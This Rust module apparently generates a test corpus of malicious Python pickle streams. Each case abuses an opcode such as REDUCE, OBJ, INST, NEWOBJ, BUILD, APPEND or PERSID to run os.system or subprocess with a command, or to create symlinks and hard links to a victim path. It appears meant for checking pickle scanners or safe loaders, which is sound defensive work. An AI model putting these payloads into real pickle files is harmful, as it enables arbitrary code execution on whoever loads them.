//! Every opcode that can call something, or lets an object's own method run.

use super::collector::{Collector, Spot};
use super::made::{attribute, class, instance, lazy, subclass};
use super::{Class, Load};
use crate::args;
use crate::asm::Asm;
use crate::value::{Value, build, call, g, list, tuple};

pub(super) fn collect(all: &mut Collector<'_>) {
    all.class(Class::Route);
    calls(all);
    new_objects(all);
    states(all);
    containers(all);
    super::hooks::collect(all);
    all.class(Class::PersistentId);
    persistent(all);
}

fn calls(all: &mut Collector<'_>) {
    for protocol in 0..6 {
        let name = format!("reduce-protocol-{protocol}");
        all.add_in(protocol, &name, "REDUCE calls os.system", Spot::system);
    }
    let does = "STACK_GLOBAL without PROTO, and REDUCE";
    all.bytes("reduce-stack-global-in-protocol-0", does, |k| {
        let args = Asm::new().named("os", "system").text(&k.sh);
        args.tuple1().reduce().stop()
    });
    all.bytes("obj", "OBJ calls os.system", |k| {
        let args = Asm::new().mark().global("os", "system").text(&k.sh);
        args.obj().stop()
    });
    all.bytes(
        "obj-stack-global",
        "OBJ calls what STACK_GLOBAL found",
        |k| {
            let named = Asm::new().proto(4).mark().named("os", "system");
            named.text(&k.sh).obj().stop()
        },
    );
    all.bytes("obj-called-result", "OBJ calls what REDUCE returned", |k| {
        let system = call(g("builtins", "getattr"), args![g("shutil", "os"), "system"]);
        Asm::new()
            .mark()
            .then(&system.asm(2))
            .text(&k.sh)
            .obj()
            .stop()
    });
    all.bytes("inst", "INST calls os.system", |k| {
        let args = Asm::new().mark().binunicode(&k.sh);
        args.inst("os", "system").stop()
    });
    all.bytes("inst-class", "INST makes a subprocess.Popen", |k| {
        let args = Asm::new().mark().then(&k.argv().asm(1));
        args.inst("subprocess", "Popen").stop()
    });
    all.bytes(
        "ext1",
        "EXT1 fetches what the stream has registered, for REDUCE",
        |k| {
            let add = call(g("copyreg", "add_extension"), args!["os", "system", 77]);
            let args = Asm::new()
                .proto(2)
                .then(&add.asm(2))
                .pop()
                .ext1(77)
                .text(&k.sh);
            args.tuple1().reduce().stop()
        },
    );
    all.add(
        "reduce-a-class-with-call",
        "REDUCE calls an object whose class has __call__",
        |k| {
            call(
                instance(attribute("__call__", g("os", "system"))),
                args![&k.sh],
            )
        },
    );
    all.add(
        "reduce-a-metaclass",
        "REDUCE calls a class, so its metaclass's __call__",
        |k| {
            let meta = subclass(
                g("builtins", "type"),
                attribute("__call__", g("os", "system")),
            );
            let made = call(meta, args!["Made", tuple(vec![]), Value::Dict(vec![])]);
            call(made, args![&k.sh])
        },
    );
}

fn new_objects(all: &mut Collector<'_>) {
    all.bytes("newobj", "NEWOBJ calls a class's __new__", |k| {
        // __new__ gets the class, and methodcaller calls its attribute.
        let run = call(g("operator", "methodcaller"), args!["run", &k.sh]);
        let run = ("__new__".into(), run);
        let made = class(Value::Dict(vec![run, ("run".into(), g("os", "system"))]));
        Asm::new()
            .proto(2)
            .then(&made.asm(2))
            .empty_tuple()
            .newobj()
            .stop()
    });
    all.bytes(
        "newobj-map",
        "NEWOBJ makes a map that calls os.system when it is read",
        |k| {
            let map = Asm::new().global("builtins", "map").global("os", "system");
            let map = map.then(&list(args![&k.sh]).asm(2)).tuple2().newobj();
            call(g("builtins", "tuple"), vec![map.into()]).pickle(2)
        },
    );
    all.bytes(
        "newobj-partial",
        "NEWOBJ makes a functools.partial, which REDUCE calls",
        |k| {
            let partial = Asm::new().proto(2).global("functools", "partial");
            let args = partial.global("os", "system").text(&k.sh).tuple2();
            args.newobj().empty_tuple().reduce().stop()
        },
    );
    all.bytes("newobj-type", "NEWOBJ makes a class with a __del__", |k| {
        let made = Asm::new()
            .proto(2)
            .global("builtins", "type")
            .text("Made")
            .empty_tuple();
        let made = made
            .then(&attribute("__del__", lazy(k)).asm(2))
            .tuple3()
            .newobj();
        made.empty_tuple().reduce().pop().none().stop()
    });
    all.bytes(
        "newobj-ex",
        "NEWOBJ_EX makes a functools.partial with keywords",
        |k| {
            let partial = Asm::new().proto(4).named("functools", "partial");
            let args = partial.named("subprocess", "call").tuple1();
            let partial = args.then(&attribute("args", k.argv()).asm(4)).newobj_ex();
            partial.empty_tuple().reduce().stop()
        },
    );
    all.bytes(
        "newobj-ex-class",
        "NEWOBJ_EX calls a class's __new__",
        |k| {
            let run = call(g("operator", "methodcaller"), args!["run", &k.sh]);
            let run = ("__new__".into(), run);
            let made = class(Value::Dict(vec![run, ("run".into(), g("os", "system"))]));
            let made = Asm::new().proto(4).then(&made.asm(4));
            made.empty_tuple().empty_dict().newobj_ex().stop()
        },
    );
}

fn states(all: &mut Collector<'_>) {
    all.add(
        "build-setstate",
        "BUILD calls __setstate__, which is os.system",
        |k| {
            let object = instance(attribute("__setstate__", g("os", "system")));
            build(object, (&k.sh).into())
        },
    );
    all.add(
        "build-partial",
        "BUILD gives a functools.partial another function",
        |k| {
            let partial = call(g("functools", "partial"), vec![g("builtins", "len")]);
            let sh = tuple(args![&k.sh]);
            let state = args![g("os", "system"), sh, Value::Dict(vec![]), Value::None];
            call(build(partial, tuple(state)), vec![])
        },
    );
    all.add(
        "build-twice",
        "BUILD twice: the first sets __setstate__",
        |k| {
            let object = instance(attribute("a", 1.into()));
            let object = build(object, attribute("__setstate__", g("os", "system")));
            build(object, (&k.sh).into())
        },
    );
    all.add(
        "build-slots",
        "BUILD sets __setstate__ as a slot, then calls it",
        |k| {
            let object = instance(attribute("a", 1.into()));
            let slots = attribute("__setstate__", g("os", "system"));
            build(
                build(object, tuple(vec![Value::None, slots])),
                (&k.sh).into(),
            )
        },
    );
    all.add(
        "build-property",
        "BUILD sets a slot whose setter is os.symlink",
        |k| {
            let setter = call(
                g("builtins", "property"),
                args![Value::None, g("os", "symlink")],
            );
            // The setter gets the object, which is a str.
            let path = call(
                subclass(g("builtins", "str"), attribute("x", setter)),
                args![&k.victim],
            );
            build(
                path,
                tuple(vec![Value::None, attribute("x", (&k.marker).into())]),
            )
        },
    );
    all.add(
        "build-setattr",
        "BUILD sets a slot of a class whose __setattr__ is os.symlink",
        |k| {
            let object = instance(attribute("__setattr__", g("os", "symlink")));
            let slots = attribute(&k.victim, (&k.marker).into());
            build(object, tuple(vec![Value::None, slots]))
        },
    );
}

fn containers(all: &mut Collector<'_>) {
    let object = |method: &str, callable| {
        let object = instance(attribute(method, callable));
        Asm::new().proto(2).then(&object.asm(2))
    };
    all.bytes("append", "APPEND calls an object's append", |k| {
        object("append", g("os", "system"))
            .text(&k.sh)
            .append()
            .stop()
    });
    all.bytes(
        "appends-extend",
        "APPENDS calls an object's extend with all items",
        |k| {
            // An attribute of the object, not of its class: a function of Python would get `self`.
            let object = instance(attribute("a", 1.into()));
            let object = build(object, attribute("extend", g("subprocess", "call")));
            let items = Asm::new().proto(2).then(&object.asm(2)).mark();
            items.text("touch").text(&k.marker).appends().stop()
        },
    );
    all.bytes(
        "appends-append",
        "APPENDS calls an object's append with each item",
        |k| {
            let items = object("append", g("os", "system")).mark();
            items.text("true").text(&k.sh).appends().stop()
        },
    );
    all.bytes("additems", "ADDITEMS calls an object's add", |k| {
        let items = object("add", g("os", "system")).mark();
        items.text(&k.sh).additems().stop()
    });
    all.bytes(
        "setitem",
        "SETITEM calls an object's __setitem__, which is os.symlink",
        |k| {
            let items = object("__setitem__", g("os", "symlink"));
            items.text(&k.victim).text(&k.marker).setitem().stop()
        },
    );
    all.bytes(
        "setitems",
        "SETITEMS calls an object's __setitem__, which is os.link",
        |k| {
            let items = object("__setitem__", g("os", "link")).mark();
            items.text(&k.victim).text(&k.marker).setitems().stop()
        },
    );
}

fn persistent(all: &mut Collector<'_>) {
    all.bytes(
        "persid",
        "PERSID has the application find a function and call it",
        |_| Asm::new().persid("os:getcwd").stop(),
    )
    .load(Load::Persistent)
    .state("loaded == sys.modules['os'].getcwd()");
    all.bytes(
        "binpersid",
        "BINPERSID has it call a function with arguments",
        |k| {
            let id = tuple(args!["os:system", &k.sh]);
            Asm::new().proto(2).then(&id.asm(2)).binpersid().stop()
        },
    )
    .load(Load::Persistent);
    all.bytes(
        "binpersid-callable",
        "BINPERSID whose id has the function itself",
        |k| {
            let id = tuple(args![g("os", "system"), &k.sh]);
            Asm::new().proto(2).then(&id.asm(2)).binpersid().stop()
        },
    )
    .load(Load::Persistent);
    all.bytes("persid-reduce", "REDUCE calls a persistent object", |k| {
        let system = Asm::new().mark().text("os:system").newfalse();
        let system = system.tuple().binpersid();
        system.text(&k.sh).tuple1().reduce().stop()
    })
    .load(Load::Persistent);
    all.bytes(
        "binpersid-computed",
        "BINPERSID whose id is computed by a call",
        |k| {
            let name = call(g("builtins", "str"), args!["os:system"]);
            let id = tuple(args![name, &k.sh]);
            Asm::new().then(&id.asm(2)).binpersid().stop()
        },
    )
    .load(Load::Persistent);
}
